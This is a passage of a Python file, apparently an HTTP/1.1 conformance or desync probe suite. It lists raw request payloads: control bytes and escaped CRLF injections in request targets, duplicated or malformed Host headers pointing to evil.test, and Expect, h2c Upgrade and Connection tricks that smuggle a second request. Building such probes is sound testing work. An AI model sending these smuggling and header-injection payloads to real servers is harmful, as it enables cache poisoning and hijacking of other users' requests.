    "a NUL": asked(b"GET /p\x00q HTTP/1.1"),
    "a CR": asked(b"GET /p\rq HTTP/1.1"),
    "a delete": asked(b"GET /p\x7fq HTTP/1.1"),
    "a byte above ASCII": asked(b"GET /p\xffq HTTP/1.1"),
    "UTF-8": asked("GET /jörg HTTP/1.1".encode()),
    "an overlong slash": asked(b"GET /p\xc0\xafq HTTP/1.1"),
    "an escaped NUL": asked(b"GET /p%00q HTTP/1.1"),
    "an escaped line end": asked(b"GET /p%0d%0aX-A:%20b HTTP/1.1"),
    "an escaped request": asked(b"GET /p%20HTTP/1.1%0d%0aHost:%20evil.test%0d%0a%0d%0aGET%20/q HTTP/1.1"),
    "an odd escape": asked(b"GET /p%zz%2 HTTP/1.1"),
    "quotes and brackets": asked(b'GET /p"<>{}|^` HTTP/1.1'),
    "20,000 bytes": said(first=b"GET /" + b"p" * 20000 + b" HTTP/1.1"),
}
HOSTS = {
    "none": asked(b"GET /p HTTP/1.1", host=b""),
    "two": asked(b"GET /p HTTP/1.1", b"Host: evil.test"),
    "two that are equal": asked(b"GET /p HTTP/1.1", b"Host: a.test"),
    "two, in two cases": asked(b"GET /p HTTP/1.1", b"hOST: evil.test"),
    "two in HTTP/1.0": asked(b"GET /p HTTP/1.0", b"Host: evil.test"),
    "empty": asked(b"GET /p HTTP/1.1", host=b"Host:"),
    "a list": asked(b"GET /p HTTP/1.1", host=b"Host: a.test, evil.test"),
    "with a path": asked(b"GET /p HTTP/1.1", host=b"Host: a.test/evil"),
    "with a user": asked(b"GET /p HTTP/1.1", host=b"Host: a.test@evil.test"),
    "with a space": asked(b"GET /p HTTP/1.1", host=b"Host: a.test evil.test"),
    "with a tab": asked(b"GET /p HTTP/1.1", host=b"Host: a.test\tevil.test"),
    "with a NUL": asked(b"GET /p HTTP/1.1", host=b"Host: a.test\x00.evil.test"),
    "with a query": asked(b"GET /p HTTP/1.1", host=b"Host: a.test?q"),
    "with a fragment": asked(b"GET /p HTTP/1.1", host=b"Host: a.test#f"),
    "with a port that is none": asked(b"GET /p HTTP/1.1", host=b"Host: a.test:80x"),
    "with two ports": asked(b"GET /p HTTP/1.1", host=b"Host: a.test:80:81"),
    "with a backslash": asked(b"GET /p HTTP/1.1", host=b"Host: a.test\\evil.test"),
    "with a byte above ASCII": asked(b"GET /p HTTP/1.1", host=b"Host: a\xff.test"),
    "a bracket alone": asked(b"GET /p HTTP/1.1", host=b"Host: [::1"),
    "a space before the colon": asked(b"GET /p HTTP/1.1", host=b"Host : a.test"),
    "a space before the name": asked(b"GET /p HTTP/1.1", b" Host: evil.test"),
    "a URL": asked(b"GET /p HTTP/1.1", host=b"Host: http://a.test"),
}

# Expect, Upgrade and what else changes a connection: Http11Probe (SMUG-EXPECT-*, RFC9110-UPGRADE-*), J. Kettle "HTTP/1.1 must die" (Expect
# desync), A. Riancho and J. Miller on h2c smuggling, PortSwigger's connection-state and CL.0 attacks, RFC 9110 sections 7.8 and 10.1.1.
STATES = {
    "Expect, and the body at once": said(b"Expect: 100-continue", b"Content-Length: 10", body=b"0123456789" + SMUGGLED),
    "Expect, of a GET": said(b"Expect: 100-continue", first=b"GET /p HTTP/1.1") + SMUGGLED,
    "Expect, of a GET with a body": said(b"Expect: 100-continue", b"Content-Length: 3", first=b"GET /p HTTP/1.1", body=b"abc") + SMUGGLED,
    "Expect, in chunks": said(b"Expect: 100-continue", CHUNKED, body=b"3\r\nabc\r\n" + ENDED + SMUGGLED),
    "Expect, with junk": said(b"Expect: y 100-continue", b"Content-Length: 3", body=b"abc" + SMUGGLED),
    "Expect, folded": said(b"Expect:\r\n 100-continue", b"Content-Length: 3", body=b"abc" + SMUGGLED),
    "Expect, twice": said(b"Expect: 100-continue", b"Expect: 100-continue", b"Content-Length: 3", body=b"abc" + SMUGGLED),
    "Expect, of something else": said(b"Expect: 200-ok", b"Content-Length: 3", body=b"abc" + SMUGGLED),
    "Expect, in HTTP/1.0": said(b"Expect: 100-continue", b"Content-Length: 3", first=b"POST /p HTTP/1.0", body=b"abc"),
    "Upgrade to h2c": said(b"Connection: Upgrade, HTTP2-Settings", b"Upgrade: h2c", b"HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA", first=b"GET /p HTTP/1.1") + SMUGGLED,
    "Upgrade to h2c, not in Connection": said(b"Upgrade: h2c", b"HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA", first=b"GET /p HTTP/1.1") + SMUGGLED,
    "Upgrade to h2c, with a body": said(b"Connection: Upgrade", b"Upgrade: h2c", b"Content-Length: 3", body=b"abc" + SMUGGLED),
    "Upgrade to something": said(b"Connection: Upgrade", b"Upgrade: foo/1", first=b"GET /p HTTP/1.1") + SMUGGLED,
    "Upgrade to a WebSocket of a wrong version": said(b"Connection: Upgrade", b"Upgrade: websocket", b"Sec-WebSocket-Key: x", b"Sec-WebSocket-Version: 777", first=b"GET /p HTTP/1.1") + SMUGGLED,
    "Connection: close, then more": said(b"Connection: close", first=b"GET /p HTTP/1.1") + SMUGGLED,
    "Connection with junk": said(b"Connection: ,, close ;, \t,x", first=b"GET /p HTTP/1.1") + SMUGGLED,
    "Proxy-Connection": said(b"Proxy-Connection: keep-alive", first=b"GET /p HTTP/1.1") + SMUGGLED,
    "Keep-Alive": said(b"Keep-Alive: timeout=5", b"Connection: Keep-Alive", first=b"GET /p HTTP/1.1") + SMUGGLED,
    "TE": said(b"TE: trailers, chunked", b"Connection: TE", first=b"GET /p HTTP/1.1") + SMUGGLED,
    "HTTP/1.0, kept alive, then more": said(b"Connection: keep-alive", first=b"GET /p HTTP/1.0") + SMUGGLED,
    "HTTP/1.0, then more": said(first=b"GET /p HTTP/1.0") + SMUGGLED,
    "half a body": said(b"Content-Length: 1000", body=b"abc"),
    "half a body that looks whole": said(b"Content-Length: 1000", body=SMUGGLED),
    "an empty line between": said(b"Content-Length: 3", body=b"abc\r\n" + SMUGGLED),
    "many empty lines between": said(b"Content-Length: 3", body=b"abc" + CRLF * 50 + SMUGGLED),
}  # fmt: skip

PAYLOADS = [Payload("sound", name, data, sound) for name, (sound, data) in SOUND.items()] + [
    Payload(family, name, data)
    for family, table in (
        ("CL and TE", BOTH),
        ("TE", CODINGS),
        ("TE with CL", CODINGS_AND_LENGTHS),
        ("CL", LENGTHS),
        ("chunks", CHUNKS),
        ("trailers", TRAILERS),
        ("lines and names", LINES),
        ("first line", FIRST),
        ("targets", TARGETS),
        ("hosts", HOSTS),
        ("connection", STATES),
    )
    for name, data in table.items()
]
